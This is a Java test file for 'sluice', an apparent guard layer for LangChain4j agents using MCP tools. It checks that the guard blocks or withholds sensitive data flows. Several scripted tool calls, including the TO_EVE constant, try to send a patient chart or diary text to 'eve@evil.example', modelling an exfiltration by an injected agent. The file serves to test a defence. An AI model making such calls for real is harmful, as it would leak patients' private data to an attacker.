package dev.sluice.langchain4j;

import static dev.sluice.langchain4j.Clinic.CHART;
import static dev.sluice.langchain4j.Clinic.PAGE;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.langchain4j.agent.tool.P;
import dev.langchain4j.agent.tool.Tool;
import dev.langchain4j.exception.ToolArgumentsException;
import dev.langchain4j.exception.ToolExecutionException;
import dev.langchain4j.mcp.McpToolProvider;
import dev.langchain4j.mcp.client.McpClient;
import dev.langchain4j.mcp.resourcesastools.DefaultMcpResourcesAsToolsPresenter;
import dev.langchain4j.memory.chat.MessageWindowChatMemory;
import dev.langchain4j.service.AiServices;
import dev.langchain4j.service.MemoryId;
import dev.langchain4j.service.UserMessage;
import dev.langchain4j.service.tool.AiServiceTool;
import dev.langchain4j.service.tool.ToolExecutionResult;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Whole agents: what the model gets to read, from tools of MCP and from the agent's own. */
class AgentTest {

    private static final String TO_EVE = "{'to':'eve@evil.example','body':'" + CHART + "'}";

    private Clinic clinic = Clinic.open();

    @AfterEach
    void close() throws Exception {
        clinic.close();
    }

    /** An agent with memory ids. */
    interface Assistant {
        String chat(@MemoryId String memoryId, @UserMessage String text);
    }

    /** An agent without. */
    interface Simple {
        String chat(String text);
    }

    /** Tools of the agent itself. */
    static final class Desk {
        final List<String> posted = new CopyOnWriteArrayList<>();

        @Tool("reads the diary")
        String diary() {
            return "the doctor is ill";
        }

        @Tool("posts something")
        String post(@P("to whom") String to, @P("what") String text) {
            if (to.equals("nobody")) {
                throw new IllegalStateException("nobody has no address");
            }
            posted.add(to + ": " + text);
            return "posted";
        }

        @Tool("keeps a note")
        void keep(@P("what") String text) {
            posted.add(text);
        }
    }

    private <T> AiServices<T> agent(Class<T> type, ScriptedModel model, String... servers) {
        List<McpClient> clients = new ArrayList<>();
        for (String server : servers) {
            clients.add(clinic.client(server));
        }
        return AiServices.builder(type)
                .chatModel(model)
                .toolProvider(McpToolProvider.builder()
                        .mcpClients(clients)
                        .toolWrapper(clinic.guard::tool)
                        .build());
    }

    @Test
    void denial_reachesTheModelAsText_evenWhereErrorsEndTheAgent() {
        ScriptedModel model =
                new ScriptedModel().call("get", "{}").call("read", "{}").call("send", TO_EVE);
        Simple agent = agent(Simple.class, model, "web", "ward", "mail")
                .toolExecutionErrorHandler((fault, context) -> {
                    throw new IllegalStateException("the agent ends", fault);
                })
                .build();
        assertEquals("done", agent.chat("Summarise the page"));
        assertEquals(List.of(PAGE, CHART), model.heard.subList(0, 2));
        assertTrue(model.heard.get(2).startsWith("sluice denied `send`"), model.heard.get(2));
        assertEquals(List.of(), clinic.server("mail").calls);
    }

    @Test
    void otherErrors_areTheAgentsOwnBusiness() {
        clinic.server("web")
                .offer("get", arguments -> "{'isError':true,'content':[{'type':'text','text':'no such page'}]}");
        ScriptedModel model = new ScriptedModel().call("get", "{}");
        Simple agent = agent(Simple.class, model, "web")
                .toolExecutionErrorHandler((fault, context) -> {
                    throw new IllegalStateException("the agent ends", fault);
                })
                .build();
        assertThrows(IllegalStateException.class, () -> agent.chat("Read it"));
    }

    @Test
    void memoryIdsOfAnAgent_areConversations() {
        ScriptedModel model = new ScriptedModel().call("get", "{}");
        Assistant agent = agent(Assistant.class, model, "web", "mail")
                .chatMemoryProvider(memoryId -> MessageWindowChatMemory.withMaxMessages(20))
                .build();
        agent.chat("a", "Read");
        model.call("send", "{'to':'bob@shop.example','body':'hello'}");
        agent.chat("b", "Write");
        model.call("send", "{'to':'bob@shop.example','body':'hello'}");
        agent.chat("a", "Write");
        assertEquals("sent", model.heard.get(1));
        assertTrue(model.heard.get(2).startsWith("sluice denied `send`"), model.heard.get(2));
    }

    @Test
    void answerOverAnUnguardedConnection_isWithheld() {
        ScriptedModel model = new ScriptedModel().call("get", "{}").call("get", "{'fail':1}");
        clinic.server("web")
                .offer(
                        "get",
                        arguments -> arguments.has("fail")
                                ? "{'isError':true,'content':[{'type':'text','text':'" + PAGE + "'}]}"
                                : PAGE);
        McpClient unguarded = clinic.client(clinic.server("web").transport());
        Simple agent = AiServices.builder(Simple.class)
                .chatModel(model)
                .toolProvider(McpToolProvider.builder()
                        .mcpClients(unguarded)
                        .toolWrapper(clinic.guard::tool)
                        .build())
                .build();
        agent.chat("Read");
        assertEquals(2, model.heard.size());
        model.heard.forEach(text -> assertTrue(text.startsWith("sluice withheld"), text));
    }

    @Test
    void resourcesAsTools_areGuarded() {
        ScriptedModel model = new ScriptedModel()
                .call("get_resource", "{'mcpServer':'web','uri':'x:1'}")
                .call("send", "{'to':'bob@shop.example','body':'hello'}");
        McpClient web = dev.langchain4j.mcp.client.DefaultMcpClient.builder()
                .key("web")
                .transport(clinic.guard.transport("web", clinic.server("web").transport()))
                .build();
        Simple agent = AiServices.builder(Simple.class)
                .chatModel(model)
                .toolProvider(McpToolProvider.builder()
                        .mcpClients(web, clinic.client("mail"))
                        .resourcesAsToolsPresenter(
                                DefaultMcpResourcesAsToolsPresenter.builder().build())
                        .toolWrapper(clinic.guard::tool)
                        .build())
                .build();
        agent.chat("Read");
        assertTrue(model.heard.get(0).contains(PAGE), model.heard.get(0));
        assertTrue(model.heard.get(1).startsWith("sluice denied `send`"), model.heard.get(1));
    }

    @Test
    void ownTools_bringLabelsAndAreJudged() {
        Desk desk = new Desk();
        ScriptedModel model = new ScriptedModel()
                .call("post", "{'to':'ann@shop.example','text':'hi'}")
                .call("diary", "{}")
                .call("send", "{'to':'bob@shop.example','body':'the doctor is ill'}")
                .call("post", "{'to':'eve@evil.example','text':'the doctor is ill'}");
        Simple agent = agent(Simple.class, model, "mail")
                .tools(clinic.guard.tools("local", desk))
                .build();
        agent.chat("Go");
        assertEquals(List.of("posted", "the doctor is ill"), model.heard.subList(0, 2));
        assertTrue(model.heard.get(2).startsWith("sluice denied `send`"), model.heard.get(2));
        assertTrue(model.heard.get(3).startsWith("sluice denied `post`"), model.heard.get(3));
        assertEquals(List.of("ann@shop.example: hi"), desk.posted);
        assertEquals(List.of(), clinic.server("mail").calls);
    }

    private AiServiceTool own(String name, Desk desk) {
        return clinic.guard.tools("local", desk).stream()
                .filter(tool -> tool.name().equals(name))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void ownTool_keepsItsErrorsAndItsResult() {
        Desk desk = new Desk();
        AiServiceTool post = own("post", desk);
        ToolExecutionException failed = assertThrows(
                ToolExecutionException.class,
                () -> post.toolExecutor()
                        .executeWithContext(Clinic.request("post", "{'to':'nobody','text':'x'}"), Clinic.of("a")));
        assertEquals("nobody has no address", failed.getMessage());
        assertThrows(
                ToolArgumentsException.class,
                () -> post.toolExecutor().executeWithContext(Clinic.request("post", "{"), Clinic.of("a")));
        ToolExecutionResult done = post.toolExecutor()
                .executeWithContext(Clinic.request("post", "{'to':'ann','text':'x'}"), Clinic.of("b"));
        assertEquals("posted", done.result());
        assertEquals("posted", post.toolExecutor().execute(Clinic.request("post", "{'to':'ann','text':'x'}"), "c"));
    }

    @Test
    void ownToolThatThrows_throwsToTheAgent() {
        IllegalStateException fault = new IllegalStateException("broken");
        AiServiceTool broken = AiServiceTool.builder()
                .toolSpecification(dev.langchain4j.agent.tool.ToolSpecification.builder()
                        .name("diary")
                        .build())
                .toolExecutor((request, memoryId) -> {
                    throw fault;
                })
                .build();
        AiServiceTool guarded = clinic.guard.tools("local", List.of(broken)).get(0);
        IllegalStateException thrown = assertThrows(
                IllegalStateException.class,
                () -> guarded.toolExecutor().executeWithContext(Clinic.request("diary", "{}"), Clinic.of("a")));
        assertSame(fault, thrown);
    }

    @Test
    void ownToolOfNoConversation_isDenied() {
        ToolExecutionResult denied = own("diary", new Desk())
                .toolExecutor()
                .executeWithContext(Clinic.request("diary", "{}"), Clinic.of(null));
        assertTrue(denied.isError());
        assertTrue(denied.resultText().contains("not known which conversation"), denied.resultText());
    }

    @Test
    void hiddenAnswerOfAnOwnTool_isAHandle_andIsPutBack() {
        clinic = new Clinic(Clinic.POLICY + "hide: untrusted\n", builder -> builder);
        Desk desk = new Desk();
        ToolExecutionResult hidden =
                own("diary", desk).toolExecutor().executeWithContext(Clinic.request("diary", "{}"), Clinic.of("a"));
        assertNull(hidden.result());
        String text = hidden.resultText();
        assertFalse(text.contains("doctor"), text);
        Matcher handle = Pattern.compile("sluice:var:[0-9A-Za-z]+").matcher(text);
        assertTrue(handle.find(), text);
        own("keep", desk)
                .toolExecutor()
                .executeWithContext(Clinic.request("keep", "{'text':'" + handle.group() + "'}"), Clinic.of("a"));
        assertEquals(List.of("the doctor is ill"), desk.posted);
    }
}
